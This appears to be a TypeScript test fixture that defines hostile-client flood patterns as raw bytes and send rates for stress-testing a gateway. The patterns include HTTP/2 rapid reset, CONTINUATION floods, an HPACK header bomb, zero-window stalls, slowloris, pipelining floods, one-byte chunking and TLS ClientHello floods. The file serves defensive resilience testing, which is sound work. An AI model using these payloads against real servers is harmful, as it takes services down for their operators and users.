// What a hostile client sends without end, kind by kind (threats: rapid reset CVE-2023-44487, CONTINUATION CVE-2024-27316,
// HPACK bombs CVE-2016-6581, slowloris and their like). Pure: bytes and how often.
import {
  endHeaders,
  endStream,
  frame,
  headerBlock,
  headers,
  preface,
  uint32,
} from '../../support/http2-frames.ts';

export type Flood = {
  /** At once; one that ends is opened anew. */
  readonly connections: number;
  /** What a connection begins with. */
  readonly opening: string;
  /** Sent again and again; `at` counts from 0 on each connection. Absent: nothing more is sent. */
  readonly batch?: (at: number) => string;
  /** It is closed with the first byte of an answer. */
  readonly closes?: boolean;
  /** Pause between batches; 0 sends as fast as they are taken. */
  readonly everyMs: number;
  /** Whether answers are read. */
  readonly reads: boolean;
};

/** From its start until a flooder begins: what it takes to load it is taken from the upstream, on the same core. */
export const flooderStartMs = 2_000;

const batchSize = 50;
const cancel = uint32(8);
const host = 'app-000000.test';
const path = '/api/v1/speech';
const target = { ':authority': host, ':path': path };

/** `part` of a stream of its own, `batchSize` streams a batch. */
function eachStream(part: (stream: number) => string): (at: number) => string {
  return (at) =>
    Array.from({ length: batchSize }, (_, index) => part(2 * (at * batchSize + index) + 1)).join('');
}

function http2(batch: (at: number) => string, more: Partial<Flood> = {}): Flood {
  return { connections: 4, opening: preface, batch, everyMs: 0, reads: true, ...more };
}

const get = (stream: number): string => headers(stream, target, endHeaders | endStream);
const post = (stream: number): string => headers(stream, { ...target, ':method': 'POST' });
/** A field of 3,000 bytes that enters the table (RFC 7541 §6.2.1); then each byte on the wire means all of it again. */
const tableEntry = `\x40\x01x\x7f${String.fromCharCode(0x80 | ((3000 - 127) & 127), (3000 - 127) >> 7)}${'v'.repeat(3000)}`;
const bomb = headerBlock(target) + tableEntry + '\xbe'.repeat(8_000);
/** SETTINGS_INITIAL_WINDOW_SIZE 0: no answer's body can be sent. */
const noWindow = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame('settings', 0, 0, `\0\x04${uint32(0)}`)}`;
/** Of TLS 1.3, with a share of X25519: it costs its sender nothing, and the gateway a key exchange and a signature. */
function clientHello(): string {
  const vector = (bytes: string): string =>
    String.fromCharCode(bytes.length >> 8, bytes.length & 255) + bytes;
  const extension = (type: number, data: string): string => `\0${String.fromCharCode(type)}${vector(data)}`;
  const share = `\0\x1d${vector('\x09'.padEnd(32, '\x42'))}`;
  const extensions = [
    extension(10, vector('\0\x1d')),
    extension(13, vector('\x04\x03\x08\x04\x08\x05')),
    extension(43, '\x02\x03\x04'),
    extension(51, vector(share)),
  ];
  const body = `\x03\x03${'r'.repeat(32)}\0${vector('\x13\x01')}\x01\0${vector(extensions.join(''))}`;
  return `\x16\x03\x01${vector(`\x01\0${vector(body)}`)}`;
}
const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n`;
const webSocket = `${request}Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`;

/** By the name that tables show. */
export const floods: Readonly<Record<string, Flood>> = {
  'none, to compare': { connections: 0, opening: '', everyMs: 0, reads: true },
  'rapid reset, GET': http2(eachStream((stream) => get(stream) + frame('reset', 0, stream, cancel))),
  'rapid reset, POST': http2(eachStream((stream) => post(stream) + frame('reset', 0, stream, cancel))),
  'streams that faulty frames reset': http2(
    eachStream(
      (stream) => headers(stream, { ...target, 'content-length': '0' }) + frame('data', 0, stream, 'x'),
    ),
  ),
  'CONTINUATION without end': http2((at) =>
    at === 0
      ? frame('headers', 0, 1, headerBlock(target))
      : frame('continuation', 0, 1, '\0\x01a\x01b').repeat(batchSize),
  ),
  'SETTINGS, answers not read': http2(() => frame('settings', 0, 0, '').repeat(batchSize), { reads: false }),
  'PING, answers not read': http2(() => frame('ping', 0, 0, '12345678').repeat(batchSize), { reads: false }),
  'empty DATA': http2((at) => (at === 0 ? post(1) : frame('data', 0, 1, '').repeat(batchSize))),
  'heads that unpack to 24 MB': http2((at) => frame('headers', endHeaders | endStream, 2 * at + 1, bomb)),
  'heads of 300 KB': http2((at) => {
    const part = `\0\x01x\x7f${String.fromCharCode(0x80 | ((15_000 - 127) & 127), (15_000 - 127) >> 7)}${'v'.repeat(15_000)}`;
    const middle = frame('continuation', 0, 2 * at + 1, part).repeat(19);
    const first = frame('headers', endStream, 2 * at + 1, headerBlock(target));
    return first + middle + frame('continuation', endHeaders, 2 * at + 1, part);
  }),
  'answers stalled by a window of 0': {
    ...{ connections: 50, everyMs: 1_000, reads: false },
    opening: noWindow + Array.from({ length: 100 }, (_, index) => get(2 * index + 1)).join(''),
  },
  'streams that stay open': {
    ...{ connections: 20, everyMs: 1_000, reads: true },
    opening: preface + Array.from({ length: 240 }, (_, index) => post(2 * index + 1)).join(''),
  },
  'preface, byte by byte': {
    ...{ connections: 2_000, opening: '', everyMs: 500, reads: true },
    batch: (at) => preface.charAt(at),
  },
  'HTTP/1.1 pipelining': {
    ...{ connections: 4, opening: '', everyMs: 0, reads: true },
    batch: () => `${request}\r\n`.repeat(batchSize),
  },
  'HTTP/1.1 pipelining, answers not read': {
    ...{ connections: 50, opening: '', everyMs: 0, reads: false },
    batch: () => `${request}\r\n`.repeat(batchSize),
  },
  'HTTP/1.1 pipelining, not in plain form': {
    ...{ connections: 50, opening: '', everyMs: 0, reads: true },
    batch: () => `GET http://${host}${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(batchSize),
  },
  'HTTP/1.1 heads, byte by byte': {
    ...{ connections: 50, opening: request, everyMs: 0, reads: true },
    batch: (at) => (at % 40 === 0 ? '\r\nX: ' : 'x'),
  },
  'HTTP/1.1 bodies in chunks of one byte': {
    ...{ connections: 4, everyMs: 0, reads: true },
    opening: `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n`,
    batch: () => '1\r\nx\r\n'.repeat(200),
  },
  'TLS hellos': { connections: 500, opening: clientHello(), everyMs: 0, closes: true, reads: true },
  'connections of one request': {
    connections: 500,
    opening: `${request}\r\n`,
    everyMs: 0,
    closes: true,
    reads: true,
  },
  slowloris: {
    ...{ connections: 5_000, opening: request, everyMs: 1_000, reads: true },
    batch: (at) => `X-${at}: 1\r\n`,
  },
  'connections that say nothing': { connections: 5_000, opening: '', everyMs: 1_000, reads: true },
  'WebSocket frames': {
    ...{ connections: 8, opening: webSocket, everyMs: 0, reads: true },
    batch: () => '\x81\x81\0\0\0\0x'.repeat(200),
  },
};
